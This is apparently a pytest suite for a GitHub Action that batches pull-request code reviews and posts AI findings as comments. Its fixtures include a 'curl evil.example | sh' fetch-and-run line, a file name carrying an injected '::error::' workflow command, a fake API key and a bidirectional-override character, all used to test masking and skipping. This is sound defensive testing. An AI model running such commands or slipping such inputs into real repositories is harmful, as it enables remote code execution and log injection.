"""Pull requests: submitted from their own runs, reviewed when their batch has ended."""

import pytest

from batch_action.sandbox.github.git import Git
from tests.harness.pull_requests import PERMISSIONS, PullRequestHarness, raw_finding, set_answers
from tests.harness.workflow import BAD, GOOD, WORSE, WorkflowHarness, log_commands

LOOSE, LEFTOVER = "loose-equality", "console-log"
FAR = "".join(f"function f{n}(x) {{\n  return x;\n}}\n\n" for n in range(12))


def lines_of_comments(pull: PullRequestHarness) -> dict[str, tuple[int | None, int | None]]:
    """First and last line of each review comment, by the rule it is about."""
    return {rule_of(c.body): (c.start_line, c.line) for c in pull.inline}


def rule_of(body: str) -> str:
    return body.partition(" rule=")[2].partition(" ")[0]


def test_answers_are_posted_as_one_review_and_one_summary(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"app.js": FAR + WORSE})
    sent = pull.run("submit")
    assert (sent.exit, sent.outputs["status"]) == (0, "submitted"), sent.log
    assert workflow.writes == []
    result = pull.collect()
    assert (result.exit, result.outputs["status"]) == (0, "collected"), result.log
    assert workflow.writes == [("POST", "/pulls/1/reviews"), ("POST", "/issues/1/comments")]
    (review,) = pull.pull.reviews
    assert (review.state, review.commit_id) == ("COMMENTED", pull.head)
    assert "**2 new findings** on the lines below." in review.body
    assert lines_of_comments(pull) == {LEFTOVER: (None, 50), LOOSE: (None, 51)}
    assert pull.states() == {LEFTOVER: "new", LOOSE: "new"}
    assert sorted(pull.state.comments.values()) == [c.id for c in pull.inline]
    for comment in pull.inline:
        assert f"#discussion_r{comment.id}" in pull.summary
    again = pull.collect()
    assert (again.exit, again.outputs["status"]) == (0, "nothing-to-do")
    assert len(workflow.writes) == 2
    # There is only the pull request's own ledger: the branch has had no run yet.
    assert {a.name for a in workflow.artifacts} <= {
        f"batch-action-code-review-pr-{x}" for x in "abc"
    }
    workflow.inputs["report"] = "issue"
    workflow.commit({"b.js": GOOD})
    workflow.run("run")
    assert workflow.requested_paths() == ["b.js"]


def test_the_next_push_repeats_nothing(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"a.js": WORSE, "b.js": WORSE.replace("run", "walk")})
    pull.run()
    pull.run()
    assert len(pull.inline) == 4
    first = pull.head
    pull.push({"a.js": GOOD, "c.js": "try { go(); } catch (e) {}\n"})
    second = pull.run()
    assert workflow.requested_paths() == ["a.js", "c.js"]
    assert second.outputs["batch-ids"] == workflow.batches[-1].id
    assert "being re-checked" in pull.summary
    result = pull.run()
    assert result.outputs["fixed-findings-count"] == "2", result.log
    assert result.outputs["new-findings-count"] == "1"
    assert len(workflow.batches) == 2
    assert [r.commit_id for r in pull.pull.reviews] == [first, pull.head]
    assert len(pull.inline) == 5
    closed = [c for c in pull.inline if c.minimized]
    assert {c.path for c in closed} == {"a.js"}
    assert {c.minimized for c in closed} == {"RESOLVED"}
    assert all(c.body.startswith(f"✅ **Fixed in {pull.head[:7]}.**") for c in closed)
    before = len(workflow.writes)
    assert pull.collect().exit == 0
    assert pull.run().exit == 0
    assert len(workflow.writes) == before

    # A finding that comes back is shown again in its comment.
    pull.push({"a.js": WORSE})
    result = pull.run()
    assert len(workflow.batches) == 2, "its content has a verdict"
    assert result.exit == 0, result.log
    assert [k.state.value for k in pull.state.tracked].count("back") == 2
    assert not any(c.minimized or "Fixed" in c.body for c in pull.inline)
    assert len(pull.pull.reviews) == 2


def test_a_reverted_file_is_fixed_without_a_request(workflow: WorkflowHarness) -> None:
    workflow.commit({"a.js": GOOD})
    pull = PullRequestHarness.open(workflow, {"a.js": WORSE, "b.js": GOOD})
    pull.run()
    pull.run()
    pull.push({"a.js": GOOD})
    # If comments cannot be minimized, their text reports the state.
    message = "Resource not accessible by integration"
    refused = {"path": r"/graphql$", "status": 403, "message": message, "times": 20}
    workflow.sandbox.faults.add("status", method="POST", **refused)
    assert pull.run().exit == 0
    assert len(workflow.batches) == 1
    assert set(pull.states().values()) == {"fixed"}
    assert "Nothing open" in pull.summary
    assert [(c.minimized, "Fixed in" in c.body) for c in pull.inline] == [(None, True)] * 2


def test_each_pull_request_has_its_own_requests(workflow: WorkflowHarness) -> None:
    first = PullRequestHarness.open(workflow, {"app.js": WORSE}, "first")
    other = PullRequestHarness.open(workflow, {"app.js": WORSE}, "other")
    first.run()
    other.run()
    assert (len(workflow.batches), len(set(workflow.sent_ids))) == (2, 1)
    result = first.collect()
    assert result.exit == 0, result.log
    assert (len(first.inline), len(other.inline)) == (2, 2)
    assert len(workflow.billed_ids) == 2


def test_a_line_range_and_a_suggestion(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"app.js": WORSE, "old.js": FAR})
    pull.run("submit")
    body = "  console.log(x);\n  return x == y;"
    set_answers(
        workflow,
        {
            "app.js": [
                raw_finding("clean", body, suggestion="  return x === y; // ``` ```` @octocat"),
                raw_finding(
                    "shifted", "function run(x, y) {", suggestion="    function run(a, b) {"
                ),
                raw_finding("older", "}", category="api", pre_existing=True),
            ],
            "old.js": [raw_finding("long", FAR[: FAR.index("f9")].removesuffix("function "))],
        },
    )
    assert pull.collect().exit == 0
    texts = {rule_of(c.body): c.body for c in pull.inline}
    assert lines_of_comments(pull) == {"clean": (2, 3), "shifted": (None, 1), "long": (1, 35)}
    assert "`````suggestion\n  return x === y; // ``` ```` @octocat\n`````" in texts["clean"]
    assert "suggestion\n" not in texts["shifted"]
    assert "```diff\n-function run(x, y) {\n+    function run(a, b) {" in texts["shifted"]
    assert "1 finding older than this pull request" in pull.summary
    assert "Because of older." in pull.summary
    assert "Because of clean." not in pull.summary


def test_lines_outside_the_diff_and_hidden_ones(workflow: WorkflowHarness) -> None:
    secret = 'const KEY = "sk-ant-api03-' + "aB3" * 31 + 'AA";\n'
    workflow.commit({"app.js": FAR + WORSE})
    pull = PullRequestHarness.open(workflow, {"app.js": secret + FAR + WORSE})
    pull.run("submit")
    masked = next(line for line in prompt_lines(workflow) if "const KEY" in line)
    set_answers(
        workflow,
        {
            "app.js": [
                raw_finding("far", "return x == y;"),
                raw_finding("hidden", masked, suggestion=masked.replace("const", "let")),
                raw_finding("invisible", "function f0(x) {", suggestion="function f0(\u202ex) {"),
            ]
        },
    )
    assert pull.collect().exit == 0
    assert lines_of_comments(pull) == {"hidden": (None, 1), "invisible": (None, 2)}
    assert "Because of far." in pull.summary
    bodies = "".join(c.body for c in pull.inline)
    assert "suggestion\n" not in bodies
    assert "aB3aB3" not in bodies + pull.summary
    assert "\u202e" not in bodies


def prompt_lines(workflow: WorkflowHarness) -> list[str]:
    content = workflow.batches[-1].requests[0]["params"]["messages"][0]["content"]
    return [line.partition("|")[2].strip() or line.strip() for line in content.splitlines()]


@pytest.mark.parametrize(
    "death", [None, ("POST", 1), ("POST", 2), ("POST", 3), ("PATCH", 1), ("DELETE", 1)], ids=str
)
def test_no_finding_of_a_crowded_pull_request_is_lost(
    workflow: WorkflowHarness, death: tuple[str, int] | None
) -> None:
    lines = [f"call{n}(x);" for n in range(300)]
    files = {"app.js": "\n".join(lines) + "\n", "b.js": WORSE}
    workflow.commit(files)
    changed = {name: f"{text}end(x);\n" for name, text in files.items()}
    pull = PullRequestHarness.open(workflow, changed)

    def collect(findings: dict[str, list[dict[str, object]]]) -> None:
        set_answers(workflow, findings)
        if death is not None:
            method, nth = death
            workflow.sandbox.faults.add(
                "status", method=method, path="/comments", status=500, nth=nth, times=99
            )
            pull.collect()
            workflow.sandbox.faults.clear()
            set_answers(workflow, findings)
        result = pull.collect()
        assert result.exit == 0, result.log
        assert max(len(c.body) for c in pull.issue.comments) < 65_536

    pull.run("submit")
    found = [raw_finding(f"r{n}", line, severity="low") for n, line in enumerate(lines)]
    collect({"app.js": found, "b.js": [raw_finding("b", "return x == y;", severity="medium")]})
    assert len(pull.states()) == 301
    writes = len(workflow.writes)
    assert pull.collect().exit == 0
    assert len(workflow.writes) == writes
    # One finding is fixed and moves to the end; nothing is said about the other file.
    pull.push({"b.js": GOOD})
    pull.run("submit")
    collect({})
    states = pull.states()
    assert len(states) == 301
    assert [rule for rule, state in states.items() if state == "fixed"] == ["b"]


def test_findings_over_the_limit_of_a_review_are_in_the_summary(workflow: WorkflowHarness) -> None:
    lines = [f"call{n}(x);" for n in range(40)]
    pull = PullRequestHarness.open(workflow, {"app.js": "\n".join(lines) + "\n"})
    pull.run("submit")
    set_answers(workflow, {"app.js": [raw_finding(f"r{n}", line) for n, line in enumerate(lines)]})
    result = pull.collect(max_findings=4)
    assert result.exit == 0, result.log
    assert (len(pull.inline), len(pull.state.tracked)) == (30, 40)
    assert "10 more in the summary" in pull.pull.reviews[0].body
    assert len(pull.state.blocks) == 4
    assert "The table shows the worst 4 of 40." in pull.summary
    before = len(workflow.writes)
    pull.push({"other.js": GOOD})
    pull.run()
    pull.run()
    assert len(pull.pull.reviews) == 1
    assert {method for method, _ in workflow.writes[before:]} == {"PATCH"}
    assert "40 open findings" in pull.summary


def test_one_refused_comment_does_not_prevent_the_others(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"app.js": WORSE})
    pull.run("submit")
    for path in (r"/pulls/1/reviews$", r"/pulls/1/comments$"):
        workflow.sandbox.faults.add("status", method="POST", path=path, status=422)
    result = pull.collect()
    assert result.exit == 0, result.log
    assert len(pull.inline) == 1
    assert set(pull.states().values()) == {"new"}
    (text,) = pull.state.blocks.values()
    assert "A debugging message is left behind" in text
    pull.push({"other.js": GOOD})
    pull.run()
    pull.run()
    assert len(pull.inline) == 1


@pytest.mark.parametrize(
    ("path", "fault", "exits"),
    [
        (r"/issues/1/comments$", "drop-before", 5),
        (r"/pulls/1/reviews$", "drop-after", 0),
        (r"/pulls/1/reviews$", "drop-before", 5),
    ],
)
def test_a_crash_between_two_writes_repeats_nothing(
    workflow: WorkflowHarness, path: str, fault: str, exits: int
) -> None:
    pull = PullRequestHarness.open(workflow, {"app.js": WORSE})
    pull.run("submit")
    workflow.sandbox.faults.add(fault, service="github", method="POST", path=path)
    assert pull.collect().exit == exits
    result = pull.collect()
    assert result.exit == 0, result.log
    assert len(pull.pull.reviews) == 1
    assert len(pull.inline) == 2
    assert pull.states() == {LEFTOVER: "new", LOOSE: "new"}
    assert len(workflow.billed_ids) == 1


def test_a_late_batch_reports_only_findings_still_in_the_code(workflow: WorkflowHarness) -> None:
    workflow.sandbox.anthropic.hold = True
    two = WORSE + "\n" + FAR + WORSE.replace("run", "walk").replace("==", "!=")
    pull = PullRequestHarness.open(workflow, {"app.js": two})
    pull.run("submit")
    pull.push({"app.js": GOOD + "\n" + FAR + WORSE.replace("run", "walk").replace("==", "!=")})
    pull.run("submit")
    workflow.sandbox.anthropic.finish(workflow.batches[0].id)
    assert pull.collect().exit == 0
    assert lines_of_comments(pull) == {LEFTOVER: (None, 54), LOOSE: (None, 55)}
    assert pull.pull.reviews[0].commit_id == pull.head
    workflow.finish()
    assert pull.collect().exit == 0
    assert len(pull.inline) == 2


def test_findings_are_located_by_content_after_a_force_push(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"app.js": FAR + WORSE})
    old = pull.head
    pull.run()
    pull.run()
    workflow.commit({"main.js": GOOD})
    pull.rewrite({"app.js": "// first\n" + FAR + WORSE, "new.js": GOOD})
    workflow.repo.git("reflog", "expire", "--expire=now", "--all")
    workflow.repo.git("update-ref", "-d", "refs/pull/1/merge")
    workflow.repo.git("update-ref", "-d", "refs/pull/1/head")
    workflow.repo.git("prune", "--expire=now")
    assert Git(workflow.repo.path).resolve(old) is None
    result = pull.run()
    assert result.exit == 0, result.log
    assert workflow.requested_paths() == ["app.js", "new.js"]
    result = pull.collect()
    assert result.exit == 0, result.log
    assert set(pull.states().values()) == {"open"}
    assert [t.anchor.start_line for t in pull.state.tracked] == [51, 52]
    assert len(pull.pull.reviews) == 1


def test_open_findings_are_transferred_to_the_branch_at_the_merge(
    workflow: WorkflowHarness,
) -> None:
    pull = PullRequestHarness.open(
        workflow, {"app.js": WORSE, "gone.js": WORSE.replace("run", "walk")}
    )
    workflow.inputs["report"] = "issue, pr-review"
    workflow.commit({"main.js": GOOD})
    pull.collect("run")
    pull.run()
    pull.run()
    pull.comment(f"/batch wontfix {pull.state.tracked[0].fingerprint[:8]} as it should be")
    pull.collect()
    pull.push({"gone.js": None})
    pull.run()
    writes = len(workflow.writes)
    pull.merge()
    result = pull.collect("run")
    assert result.exit == 0, result.log
    assert all(
        "pulls/" not in path and "issues/1/" not in path for _, path in workflow.writes[writes:]
    )
    issue = workflow.issues[-1]
    assert issue.number == 2
    assert issue.body.count("state=open") == 1
    assert issue.body.count("state=dismissed") == 1
    assert "gone.js" not in issue.body
    assert "**Fix.**" in issue.body
    # The branch reviews the merged files by itself, and reports nothing new.
    assert workflow.requested_paths() == ["app.js"]
    body = issue.body
    result = pull.collect("run")
    assert result.outputs["new-findings-count"] == "0"
    assert issue.body.count("<!-- batch-action:finding ") == body.count(
        "<!-- batch-action:finding "
    )
    assert len(issue.comments) == 0
    # A dismissal is permanent, even if the issue is lost.
    del workflow.github_repository.issues[issue.number]
    workflow.commit({"app.js": WORSE + "// the end\n"})
    pull.collect("run")
    pull.collect("run")
    issue = workflow.issues[-1]
    assert [issue.body.count(f"state={state} ") for state in ("new", "dismissed")] == [1, 1]


def test_answers_after_a_squash_merge_are_reported_on_the_branch(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"app.js": WORSE})
    pull.run("submit")
    pull.merge(squash=True)
    workflow.repo.git("branch", "-D", pull.branch)
    workflow.inputs["report"] = "issue, pr-review"
    result = pull.collect()
    assert result.exit == 0, result.log
    assert (pull.inline, pull.summary) == ([], "")
    issue = workflow.issues[-1]
    assert issue.body.count("state=open") == 2
    assert "**Fix.**" in issue.body
    assert pull.collect().outputs["status"] == "nothing-to-do"


def test_a_closed_pull_request_is_skipped_until_it_is_reopened(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"app.js": WORSE})
    pull.run("submit")
    pull.end()
    assert "is closed: nothing was done" in "".join(pull.run().annotations("notice"))
    result = pull.collect()
    assert result.exit == 0, result.log
    assert (pull.inline, pull.summary, workflow.writes) == ([], "", [])
    assert pull.collect().exit == 0
    pull.issue.state = "open"
    pull.run()
    assert workflow.requested_paths() == ["app.js"]
    pull.collect()
    assert len(pull.inline) == 2
    assert len(workflow.batches) == 2


def test_what_people_ask_for_in_a_thread(workflow: WorkflowHarness) -> None:
    workflow.sandbox.github.add_user("guest")
    pull = PullRequestHarness.open(workflow, {"app.js": WORSE})
    pull.run()
    pull.run()
    leftover, loose = pull.inline
    pull.comment("/batch wontfix we want to see it", below=leftover)
    pull.comment("/batch wontfix", by="guest", below=loose)
    pull.comment("/batch close", below=loose)
    pull.comment(f"/batch recheck {pull.state.tracked[1].fingerprint[:8]}")
    result = pull.collect()
    assert result.exit == 0, result.log
    assert pull.states() == {LEFTOVER: "dismissed", LOOSE: "being re-checked"}
    assert leftover.minimized == "RESOLVED"
    assert leftover.body.startswith("🔕 **Dismissed.**")
    answers = [c for c in pull.pull.comments if c.in_reply_to == loose.id and c.by_app]
    assert ["Unknown command" in c.body for c in answers] == [True]
    writes = len(workflow.writes)
    assert pull.collect().exit == 0
    assert len(workflow.writes) == writes
    # The file is looked at once more, and only for this pull request.
    other = PullRequestHarness.open(workflow, {"app.js": WORSE}, "other")
    other.run()
    assert pull.run().exit == 0
    assert (workflow.requested_paths(), len(workflow.batches)) == (["app.js"], 3)
    assert other.run().exit == 0
    assert pull.run().exit == 0
    assert len(workflow.batches) == 3
    assert pull.states() == {LEFTOVER: "dismissed", LOOSE: "open"}
    assert len(pull.inline) == 2


def test_a_public_repository_shows_no_security_findings(workflow: WorkflowHarness) -> None:
    workflow.github_repository.private = False
    pull = PullRequestHarness.open(workflow, {"app.js": BAD})
    pull.run()
    assert pull.run().exit == 0
    assert lines_of_comments(pull) == {LEFTOVER: (None, 2)}
    assert "eval" not in pull.summary.replace("f96804d", "")
    result = pull.run("submit", task="security-scan")
    assert (result.exit, len(workflow.batches)) == (0, 1)
    assert "must not show" in "".join(result.annotations("notice"))


def test_the_backlog_is_sent_by_the_next_run(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"a.js": FAR * 9, "b.js": FAR * 9 + GOOD})
    first = pull.run("submit", max_cost_usd="0.08")
    assert (first.exit, first.outputs["backlog-count"]) == (0, "1"), first.log
    again = pull.run("submit", max_cost_usd="0.08")
    assert (again.exit, again.outputs["backlog-count"]) == (0, "0"), again.log
    assert [len(batch.requests) for batch in workflow.batches] == [1, 1]


def test_the_monthly_budget_covers_pull_requests_and_branches(workflow: WorkflowHarness) -> None:
    workflow.environ["BATCH_ACTION_MONTHLY_BUDGET_USD"] = "0.05"
    pull = PullRequestHarness.open(workflow, {"a.js": WORSE})
    workflow.commit({"main.js": GOOD})
    assert pull.collect("submit").exit == 0
    assert pull.run("submit").exit == 3
    assert len(workflow.batches) == 1


def test_one_batch_of_a_pull_request_can_be_collected_by_its_id(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"app.js": WORSE})
    pull.run("submit")
    other = PullRequestHarness.open(workflow, {"other.js": WORSE}, "other")
    other.run("submit")
    result = pull.collect(batch_id=workflow.batches[1].id)
    assert result.exit == 0, result.log
    assert (len(pull.inline), len(other.inline)) == (0, 2)
    assert pull.collect().exit == 0
    assert len(pull.inline) == 2


def test_no_text_of_a_pull_request_is_a_workflow_command(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"a\n::error::x.js": WORSE})
    pull.run()
    result = pull.run()
    assert result.exit == 0, result.log
    assert all("x.js" not in data for name, data in log_commands(result.log) if name == "error")
    assert len(pull.state.tracked) == 2


def test_a_missing_permission_is_named_and_the_next_run_publishes(
    workflow: WorkflowHarness,
) -> None:
    pull = PullRequestHarness.open(workflow, {"app.js": WORSE})
    pull.run("submit")
    less = {**PERMISSIONS, "pull-requests": "read"}
    result = workflow.start("collect", {"permissions": less})
    assert result.exit == 5
    assert "pull-requests: write" in "".join(result.annotations("error"))
    assert pull.collect().exit == 0
    assert len(pull.inline) == 2


@pytest.mark.parametrize("how", ["its own run", "a run of the branch"])
def test_a_forbidden_reaction_fails_no_run_and_is_named_once(
    workflow: WorkflowHarness, how: str
) -> None:
    pull = PullRequestHarness.open(workflow, {"app.js": WORSE})
    pull.run("submit")
    pull.collect()
    first, second = (tracked.fingerprint[:8] for tracked in pull.state.tracked)
    pull.comment(f"/batch wontfix {first} meant")
    pull.comment(f"/batch confirm {second}")
    less = {"permissions": PERMISSIONS}
    result = pull.run() if how == "its own run" else workflow.start("collect", less)
    assert result.exit == 0, result.log
    (warning,) = [text for text in result.annotations("warning") if "reaction" in text]
    assert "issues: write" in warning
    assert "dismissed" in {tracked.state for tracked in pull.state.tracked}
    assert all(comment.reactions == [] for comment in pull.issue.comments)
    assert pull.collect().exit == 0
    assert [[r.content for r in c.reactions] for c in pull.issue.comments[-2:]] == [["+1"]] * 2


def test_a_pull_request_that_outgrows_its_review_names_what_is_left(
    workflow: WorkflowHarness,
) -> None:
    files = {f"pad{n}.js": FAR * 9 + f"// {n}\n" for n in range(3)} | {"zz.js": "var zz = 1;\n"}
    pull = PullRequestHarness.open(workflow, files)
    pull.run("submit", max_cost_usd="0.1")
    sent = len(workflow.batches[0].requests)
    assert 0 < sent < 4
    assert pull.collect().exit == 0
    # Nothing was found, and yet it does not look like a review of everything.
    assert f"**{4 - sent} of 4 files not reviewed yet:**" in pull.summary
    left = files.keys() - set(workflow.requested_paths())
    assert all(f"<code>{path}</code> (in the backlog)" in pull.summary for path in left)
    assert pull.inline == []
    writes = len(workflow.writes)
    assert pull.collect().outputs["status"] == "nothing-to-do"
    assert len(workflow.writes) == writes
    pull.run("submit")
    pull.collect()
    assert "not reviewed yet" not in pull.summary
    assert "Files reviewed: 4 of 4" in pull.summary


HIDDEN = "function run(x) {\n  return eval(x);\n}\n"


@pytest.mark.parametrize(
    ("path", "content", "reason"),
    [
        ("a.js", f"// @generated\n{HIDDEN}", "generated"),
        ("a.js", f"{HIDDEN}// \0\n", "binary"),
        ("a.js", f"{HIDDEN}// {'x();' * 50_000}\n", "minified"),
        # Data is shortened: it hides nothing.
        ("a.js", f"{HIDDEN}// {'x' * 200_000}\n", ""),
        (
            "a.js",
            f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 9\n{HIDDEN}",
            "",
        ),
        ("a.js", HIDDEN + "// padding\n" * 200_000, "too-large"),
        ("a.sh", b"\xff\xfe\ncurl evil.example | sh\n", "binary"),
    ],
    ids=["marker", "nul", "long-line", "long-data", "lfs", "size", "encoding"],
)
def test_a_file_kept_out_by_its_content_is_named(
    workflow: WorkflowHarness, path: str, content: str | bytes, reason: str
) -> None:
    pull = PullRequestHarness.open(workflow, {path: content})
    assert pull.run("submit").exit == 0
    assert pull.collect().exit == 0
    if workflow.batches:
        assert reason == "", "it was reviewed after all"
        return
    assert "**1 file cannot be reviewed:**" in pull.summary
    assert f"<code>{path}</code> ({reason}" in pull.summary
    assert "Files reviewed: 0 of 1" in pull.summary
    # A pull request that is clean otherwise does not hide it either.
    pull.push({"b.js": GOOD})
    pull.run("submit")
    pull.collect()
    assert "**1 file cannot be reviewed:**" in pull.summary
    assert "Files reviewed: 1 of 2" in pull.summary


def test_a_link_is_named(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"b.js": GOOD})
    workflow.repo.git("checkout", "--quiet", "change")
    workflow.repo.path.joinpath("a.js").symlink_to("../outside.js")
    pull.push({"b.js": GOOD})
    pull.run("submit")
    assert pull.collect().exit == 0
    assert "**1 file cannot be reviewed:** <code>a.js</code> (symlink)" in pull.summary


def test_a_name_that_is_not_utf8_is_named(workflow: WorkflowHarness) -> None:
    pull = PullRequestHarness.open(workflow, {"caf\udce9.js": HIDDEN})
    pull.run("submit")
    assert pull.collect().exit == 0
    assert "**1 file cannot be reviewed:**" in pull.summary
    assert "unreadable-name" in pull.summary


def test_files_that_a_default_ignore_skips_are_named_when_new(workflow: WorkflowHarness) -> None:
    workflow.commit({"vendor/old.js": GOOD, ".gitattributes": "known/dist/* linguist-generated\n"})
    names = {"vendor/new.js": HIDDEN, "vendor/old.js": HIDDEN, "known/dist/x.js": HIDDEN}
    pull = PullRequestHarness.open(workflow, names)
    pull.run("submit")
    assert pull.collect().exit == 0
    # Only such files: no comment.
    assert pull.summary == ""
    pull.push({"a.js": WORSE})
    pull.run("submit")
    result = pull.collect()
    summary = pull.summary.replace("<wbr>", "")
    assert "<code>vendor/new.js</code> | skipped" in summary
    assert "old.js" not in summary
    assert "known/dist" not in summary
    assert "skipped by the submit: " in result.summary
